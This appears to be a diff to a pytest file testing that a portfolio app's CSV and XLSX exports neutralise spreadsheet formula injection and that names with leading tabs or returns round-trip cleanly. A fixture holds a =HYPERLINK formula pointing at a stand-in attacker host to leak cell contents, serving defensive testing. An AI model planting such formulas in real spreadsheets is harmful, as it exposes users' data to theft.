@@ -15,7 +15,6 @@ from realise.benefits import services as benefits
 from realise.imports.engine import run_import
 from realise.imports.exports import export_file
 from realise.imports.kinds import KINDS
-from realise.imports.readers import read_workbook
 from realise.imports.templates import template_xlsx
 from realise.portfolio import services as portfolio
 from realise.portfolio.models import Project
@@ -25,7 +24,6 @@ pytestmark = pytest.mark.db
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 PRINTABLE = [HYPERLINK, "+44 1305 221000", "-minus first", "@SUM(A1)"]
 WHITESPACE = ["\ttab first", "\rcr first"]
-RISKY = PRINTABLE + WHITESPACE
 
 
 def _projects(council, names):
@@ -52,10 +50,10 @@ def _names_by_code(rows, headings):
 
 
 def test_a_csv_export_puts_a_quote_before_text_that_starts_like_a_formula(council):
-    _projects(council, RISKY)
+    _projects(council, PRINTABLE)
     rows = _csv_rows(export_file("projects", council["org"], "csv"))
     names = _names_by_code(rows[1:], rows[0])
-    assert [names[f"X-{i}"] for i in range(len(RISKY))] == ["'" + v for v in RISKY]
+    assert [names[f"X-{i}"] for i in range(len(PRINTABLE))] == ["'" + v for v in PRINTABLE]
     assert names["P-1"] == "Care review"
     assert names["X-0"].startswith("'=")
 
@@ -76,7 +74,7 @@ def test_a_negative_amount_in_a_csv_export_stays_a_number(council):
 
 
 def test_an_xlsx_export_writes_text_that_starts_like_a_formula_as_a_string(council):
-    _projects(council, RISKY)
+    _projects(council, PRINTABLE)
     book = openpyxl.load_workbook(io.BytesIO(export_file("projects", council["org"], "xlsx")))
     sheet = book.active
     headings = [c.value for c in sheet[1]]
@@ -86,7 +84,7 @@ def test_an_xlsx_export_writes_text_that_starts_like_a_formula_as_a_string(counc
             cell = by_heading[heading]
             assert cell.value is None or cell.data_type == "s", (heading, cell.value)
     names = {r[0].value: r[1] for r in sheet.iter_rows(min_row=2)}
-    assert [names[f"X-{i}"].value for i in range(len(RISKY))] == RISKY
+    assert [names[f"X-{i}"].value for i in range(len(PRINTABLE))] == PRINTABLE
     assert names["X-0"].data_type == "s"
 
 
@@ -117,27 +115,20 @@ def test_text_that_starts_like_a_formula_exports_and_imports_back_unchanged(coun
     assert [Project.objects.get(code=f"X-{i}").name for i in range(len(values))] == values
 
 
-@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
-def test_text_starting_with_a_tab_or_return_reads_back_exactly(council, tmp_path, fmt):
-    _projects(council, WHITESPACE)
-    path = tmp_path / f"projects.{fmt}"
-    path.write_bytes(export_file("projects", council["org"], fmt))
-    book = read_workbook(path)
-    rows = [values for _, values in book.sheets[0].rows]
-    names = _names_by_code(rows[1:], rows[0])
-    assert [names["X-0"], names["X-1"]] == WHITESPACE
-
-
 @pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
-def test_text_starting_with_a_tab_or_return_imports_back_without_a_quote(council, tmp_path, fmt):
-    """The import trims the spaces, tabs and line breaks around every cell (as it always has), so
-    these come back trimmed; what matters here is that no quote is left behind."""
+def test_a_name_sent_with_a_leading_tab_or_return_is_kept_trimmed_and_imports_back(
+    council, tmp_path, fmt
+):
+    """Every service trims one-line text as the web forms do, so a name sent through the API with
+    a leading tab or carriage return is stored without it, and its export imports back
+    unchanged (the writers' handling of such text is unit-tested in test_spreadsheet_text)."""
     _projects(council, WHITESPACE)
+    assert [Project.objects.get(code=c).name for c in ("X-0", "X-1")] == ["tab first", "cr first"]
     path = tmp_path / f"projects.{fmt}"
     path.write_bytes(export_file("projects", council["org"], fmt))
     outcome = run_import(path, organisation=council["org"], dry_run=False)
     assert outcome.problems == []
-    assert [Project.objects.get(code=c).name for c in ("X-0", "X-1")] == ["tab first", "cr first"]
+    assert (outcome.changes, outcome.unchanged) == ([], Project.objects.count())
 
 
 def test_a_csv_export_full_of_quotes_is_not_taken_for_single_quoted_csv(council, tmp_path):
